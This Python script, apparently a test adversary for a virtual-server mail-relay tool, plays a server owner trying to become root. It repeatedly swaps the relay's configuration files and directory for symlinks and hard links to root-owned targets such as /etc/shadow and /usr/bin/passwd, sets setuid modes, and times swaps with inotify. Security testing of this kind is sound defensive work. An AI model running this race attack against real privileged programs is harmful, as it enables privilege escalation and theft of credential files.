# SPDX-License-Identifier: GPL-3.0-or-later
"""The owner of a virtual server, who wants to become root: swaps files and directories of it, over and over, until killed.

Prints "ready" once, and on SIGTERM how many attempts it made.
"""

import ctypes
import os
import select
import signal
import sys
import time

ETC, WAY = sys.argv[1:]
NAMES = ("relayers.db", "sendmail.cf", "sendmail.mc", ".relayers.db.vsmtprelay", ".sendmail.cf.vsmtprelay")
# A setuid program, a file and a directory of root's; the last is not even readable.
TARGETS = ("/usr/bin/passwd", "/etc/shadow", "/root/private/secret", "/root/private/missing")
IN_CREATE, IN_OPEN, IN_CLOSE_WRITE, IN_MOVED_FROM = 0x100, 0x20, 0x8, 0x40
state = {"attempts": 0, "going on": True}


def stop(*_unused):
    state["going on"] = False


def attempt(work, *arguments):
    state["attempts"] += 1
    try:
        work(*arguments)
    except OSError:
        pass


def swap_file(name, target):
    link = os.path.join(ETC, ".link")
    kept = os.path.join(ETC, ".kept")
    path = os.path.join(ETC, name)
    attempt(os.symlink, target, link)
    attempt(os.rename, path, kept)
    attempt(os.rename, link, path)
    attempt(os.unlink, path)
    attempt(os.rename, kept, path)
    attempt(os.link, target, path)


def links():
    for name in NAMES:
        for target in TARGETS:
            swap_file(name, target)


def directory():
    kept = ETC + ".kept"
    attempt(os.rename, ETC, kept)
    attempt(os.symlink, "/root/private", ETC)
    attempt(os.unlink, ETC)
    attempt(os.rename, kept, ETC)


def modes():
    for name in NAMES:
        path = os.path.join(ETC, name)
        attempt(os.chmod, path, 0o4755)
        attempt(os.chmod, path, 0o2711)
        attempt(os.setxattr, path, "user.note", b"x")


class Watcher:
    """Does its swap at the very moment at which another process opens or creates a file there (inotify(7))."""

    def __init__(self):
        libc = ctypes.CDLL(None, use_errno=True)
        self._descriptor = libc.inotify_init1(os.O_NONBLOCK)
        libc.inotify_add_watch(self._descriptor, ETC.encode(), IN_CREATE | IN_OPEN | IN_CLOSE_WRITE | IN_MOVED_FROM)

    def __call__(self):
        if select.select([self._descriptor], [], [], 0.2)[0]:
            try:
                os.read(self._descriptor, 1 << 16)
            except BlockingIOError:
                return
            for target in TARGETS[:2]:
                swap_file("relayers.db", target)
                swap_file("sendmail.cf", target)


signal.signal(signal.SIGTERM, stop)
work = {"links": links, "directory": directory, "modes": modes, "watch": None}[WAY] or Watcher()
print("ready", flush=True)
while state["going on"]:
    work()
    time.sleep(0.0005)
print(state["attempts"], flush=True)
